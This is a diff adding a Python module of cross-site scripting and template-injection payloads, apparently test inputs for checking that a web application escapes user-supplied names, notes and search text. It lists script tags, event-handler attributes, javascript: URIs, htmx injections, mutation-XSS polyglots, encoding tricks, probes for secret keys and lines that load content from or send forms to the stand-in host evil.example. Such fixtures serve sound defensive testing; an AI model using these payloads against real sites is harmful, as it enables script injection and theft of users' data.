@@ -1,0 +1,56 @@
+# ruff: noqa: E501
+"""What somebody writes who wants a page to do something: markup, script and addresses. SHORT fits where a name does."""
+
+SHORT = [
+    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example>", "</script><script>alert(1)",
+    "</title><script>alert(1)</script>", "</textarea><script>alert(1)//", "</style><script>alert(1)//",
+    "</template><img src=x onerror=alert(1)>", "</noscript><img src=x onerror=alert(1)>", "</bdi><svg onload=alert(1)>",
+    "</option></select><img src=x>", "</svg><script>alert(1)//", "</button><iframe src=//evil.example>",
+    "</form><form action=//evil.example>", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
+    "<img src=//evil.example/x>", "<image src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>", "<svg><script>alert&#40;1)</script>", "<svg><animate onbegin=alert(1)>",
+    "<svg><use href=//evil.example/x#x>", "<svg><image href=//evil.example/x>", "<svg><a href=javascript:alert(1)>",
+    "<svg><style><img src=x onerror=alert(1)>", "<svg></p><style><a id=\"</style>", "<math><mtext><img src onerror=alert()>",
+    "<math href=javascript:alert(1)>x", "<math><mi//xlink:href=javascript:1>", "<body onload=alert(1)>",
+    "<body onpageshow=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video src onerror=alert(1)>",
+    "<audio src onerror=alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>",
+    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)'>",
+    "<iframe src=javascript:alert(1)>", "<iframe src=data:text/html,x>", "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil/x.css>", "<link rel=prefetch href=//evil.example>", "<style>@import'//evil.example'",
+    "<style>*{background:url(//evil.example)}", "<meta http-equiv=refresh content=0;//e>", "<a href=javascript:alert(1)>x",
+    "<a href=data:text/html,x>x</a>", "<a ping=//evil.example href=/>x", "<form><button formaction=//evil.example>",
+    "<b style=color:red>x</b>", "<p style='background:url(//evil)'>", "<x onclick=alert(1)>x", "<x onmouseover=alert(1)>",
+    "<x style=animation:x onanimationend=x>", "<dialog open onclose=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
+    "<plaintext>", "<xmp><img src=x onerror=alert(1)>", "<listing>&lt;img src=x>", "<noembed><img src=x>", "<frameset onload=alert(1)>",
+    "\"onmouseover=\"alert(1)", "\" autofocus onfocus=alert(1) x=\"", "' autofocus onfocus=alert(1) x='", "\"><script>alert(1)</script>",
+    "'><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>", "\" style=\"x:y",
+    "x onload=alert(1)", "` onload=alert(1) `", "``onmouseover=alert(1)", "\\\"><img src=x>", "\\';alert(1)//", "';alert(1)//",
+    "\";alert(1)//", "`;alert(1)//", "${alert(1)}", "#{alert(1)}", "{{constructor.constructor('alert()')()}}",
+    "{{ settings.SECRET_KEY }}", "{% debug %}", "{% include 'base.html' %}", "{{ request|safe }}", "{%autoescape off%}<b>x",
+    "<%= 7*7 %>", "[[7*7]]", "{#", "{0.__class__}", "%(x)s", "%n%s%x", "__proto__", "constructor",
+    "<p hx-get=//evil.test hx-trigger=load>", "<div hx-on:click=alert(1)>", "<x hx-on::load=alert(1)>", "\" hx-get=\"/x",
+    "<div hx-vals='js:{a:alert(1)}'>", "<div data-hx-get=/ hx-trigger=load>", "\" data-hx-get=\"/\" hx-trigger=\"load",
+    "<template hx-swap-oob=true id=table>", "<div id=notice hx-swap-oob=true>", "<meta name=htmx-config content={}>",
+    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java&Tab;script:alert(1)", "javascript&colon;alert(1)", "data:text/html,<script>alert()</script>",
+    "vbscript:msgbox(1)", "//evil.example/x", "https://evil.example", "\\\\evil.example", "<!--", "--><img src=x>", "<!--><img src=x onerror=alert(1)>",
+    "<![CDATA[<script>alert(1)</script>]]>", "]]><img src=x>", "<?php echo 1 ?>", "<?xml-stylesheet href='//evil'?>", "<!DOCTYPE x [<!ENTITY y 'z'>]>",
+    "<", ">", "<a", "<a href='", "<img src=\"", "</", "<script", "&", "&#60;script&#62;alert(1)", "&lt;img src=x onerror=alert(1)&gt;",
+    "&#x3c;svg onload=alert(1)&#x3e;", "&amp;lt;b&amp;gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3e",
+    "x\u2028alert(1)//", "x\u2029<b>y", "＜script＞alert(1)＜/script＞", "\u202e>1(trela<", "<scr\u200bipt>alert(1)</script>", "<ımg src=x>", "ſcript",
+]  # fmt: skip
+"""At most forty letters each, so that they can be the names of people and places."""
+BROAD = [
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<svg><foreignObject><iframe xmlns=http://www.w3.org/1999/xhtml srcdoc='<script>alert(1)</script>'></iframe>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>",
+    "<a href=\"\nja&#9;vascript:alert(1)\">x</a>\n<img src=`x`onerror=alert(1)>",
+    "<div hx-get=\"//evil.example/\" hx-trigger=\"load\" hx-target=\"body\" hx-on:htmx:config-request=\"alert(1)\">x</div>",
+    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>x</text></a>",
+    "{\"a\": \"</script><script>alert(1)</script>\", \"b\": \"\u2028alert(1)\u2029\"}",
+    "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=alert(1)>",
+]  # fmt: skip
+"""Longer ones, for notes and for what is searched."""
+ALL = [*SHORT, *BROAD]
